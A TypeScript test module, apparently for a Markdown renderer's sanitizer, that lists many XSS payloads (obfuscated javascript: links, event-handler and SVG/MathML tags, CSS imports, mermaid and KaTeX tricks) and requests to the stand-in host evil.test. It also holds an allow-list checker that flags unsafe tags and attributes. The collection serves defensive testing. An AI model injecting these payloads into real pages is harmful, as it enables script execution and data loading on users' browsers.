import { parseHTML } from 'linkedom'

/** Ways to write an address that runs, misleads or is asked for by itself. */
const ADDRESSES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106avascript:alert(1)',
  'jav%61script:alert(1)',
  '\u0001javascript:alert(1)',
  '\u200bjavascript:alert(1)',
  'java\u0000script:alert(1)',
  'ｊavascript:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:;base64,PHN2Zz4=',
  'blob:http://evil.test/1',
  'filesystem:http://evil.test/1',
  'file:///etc/passwd',
  'ftp://evil.test/x',
  'view-source:javascript:alert(1)',
  'jar:http://evil.test!/x',
  'intent://evil.test#Intent;end',
  'about:blank',
  'ws://evil.test',
  '//evil.test/x',
  '/\\evil.test/x',
  '\\\\evil.test\\x',
  '/ai/user/getUserInfo',
  '/files/../ai/user/getUserInfo',
  '/files/%2e%2e/ai/team/1001/update',
  './logout',
  '?redirectUrl=//evil.test',
  '#"><img src=x onerror=alert(1)>',
  'https:evil.test',
] as const

const inMarkdown = (address: string) => [
  `[点](${address})`,
  `[点](<${address}> "题")`,
  `<${address}>`,
  `[点][一]\n\n[一]: ${address}`,
  `![图](${address})`,
  `![图][一]\n\n[一]: <${address}>`,
  `| 甲 |\n| --- |\n| [点](${address}) ![图](${address}) |`,
]

export const hostileHtml = [
  '<script>alert(1)</script>',
  '<ScRiPt src=http://evil.test/x></ScRiPt>',
  '<script/x>alert(1)</script/x>',
  '<<script>alert(1)//<</script>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>点</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=a onload=alert(1)>#a"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style>@import url(http://evil.test/x)</style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">点</math>',
  '<img src=x onerror=alert(1)>',
  '<img src=http://evil.test/x>',
  '<img srcset="http://evil.test/x 2x">',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img/src/onerror=alert(1)>',
  '<picture><source srcset=http://evil.test/x><img src=x></picture>',
  '<video src=http://evil.test/x poster=http://evil.test/p onloadstart=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=http://evil.test/x autoplay onplay=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data=http://evil.test/x></object>',
  '<embed src=http://evil.test/x>',
  '<applet code=x></applet>',
  '<link rel=stylesheet href=http://evil.test/x>',
  '<link rel=prefetch href=http://evil.test/x>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=http://evil.test/>',
  '<style>@import "http://evil.test/x"; *{background:url(http://evil.test/y)}</style>',
  '<p style="background:url(http://evil.test/x)">字</p>',
  '<p style="width:expression(alert(1))">字</p>',
  '<div style="position:fixed;inset:0;z-index:9999">盖住一切</div>',
  '<form action=http://evil.test/x><input name=q><button>提交</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<button formaction=javascript:alert(1)>点</button>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<details open ontoggle=alert(1)><summary>看</summary></details>',
  '<marquee onstart=alert(1)>字</marquee>',
  '<body onload=alert(1)>',
  '<table background=http://evil.test/x><tr><td background=javascript:alert(1)>字</td></tr></table>',
  '<a href="javascript:alert(1)">点</a>',
  '<a href=http://evil.test/x ping=http://evil.test/p target=_top>点</a>',
  '<map name=m><area shape=default href=javascript:alert(1)></map>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<keygen autofocus onfocus=alert(1)>',
  '<sup data-index="1" onclick=alert(1)>1</sup>',
  '<span class="cite-bound" onmouseover=alert(1)>字</span>',
  '<x onclick=alert(1) id=a tabindex=1>字</x>',
]

const BLOCKS = [
  '```mermaid\ngraph TD\nA["<img src=x onerror=alert(1)>"] --> B\nclick A "javascript:alert(1)"\n```',
  "```mermaid\n%%{init: {'securityLevel': 'loose', 'flowchart': {'htmlLabels': true}}}%%\ngraph TD\nA --> B\n```",
  '```html\n<script>alert(1)</script>\n```',
  '```svg\n<svg onload=alert(1)>\n```',
  '~~~" onmouseover="alert(1)\n字\n~~~',
  '$\\href{javascript:alert(1)}{x}$ 与 $\\includegraphics{http://evil.test/x}$',
  '$$\\htmlData{a=b}{x}\\def\\a{\\a\\a}\\a$$',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [点](javascript:alert(1))',
  '- [ ] <img src=x onerror=alert(1)>\n- [x] [点](javascript:alert(1))',
  '[点](javascript:alert(1)\n"题")',
  '[![图](http://evil.test/x)](javascript:alert(1))',
  'http://evil.test/"onmouseover="alert(1)',
  'www.evil.test/<script>alert(1)</script>',
  'a@evil.test"onmouseover="alert(1)',
  '[ref:99]<img src=x onerror=alert(1)>[1]',
]

/** Markdown as a model or a colleague might write it to have a page run, load or mislead. */
export const hostileMarkdown = [
  ...ADDRESSES.flatMap(inMarkdown),
  ...hostileHtml,
  ...hostileHtml.map((item) => `**字** ${item} 尾`),
  ...BLOCKS,
]

const TAGS = new Set(
  `p br hr em strong del code pre blockquote ul ol li h1 h2 h3 h4 h5 h6 table thead tbody tr th td a div span sup
  section input`.split(/\s+/),
)
const ATTRIBUTES: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|#)/i,
  target: /^_blank$/,
  rel: /^nofollow noopener noreferrer$/,
  class: /^[^<>]*$/,
  id: /^(user-content-|footnote-label$)/,
  type: /^checkbox$/,
  checked: /^$/,
  disabled: /^$/,
  style: /^text-align:\s*(left|right|center)$/,
  start: /^\d+$/,
}
const DATA = /^(data-footnote|aria-)/

/** What in this markup could run, load or mislead; nothing, when it is only words and honest links. */
export function dangersOf(markup: string): string[] {
  const { document } = parseHTML(`<html><body>${markup}</body></html>`)
  return [...document.body.querySelectorAll('*')].flatMap((element) => {
    const name = element.localName
    const bad = [...element.attributes].filter(
      ({ name: attribute, value }) =>
        !DATA.test(attribute) && !(ATTRIBUTES[attribute]?.test(value) ?? false),
    )
    return [
      ...(TAGS.has(name) ? [] : [name]),
      ...bad.map((item) => `${name} ${item.name}=${item.value}`),
    ]
  })
}
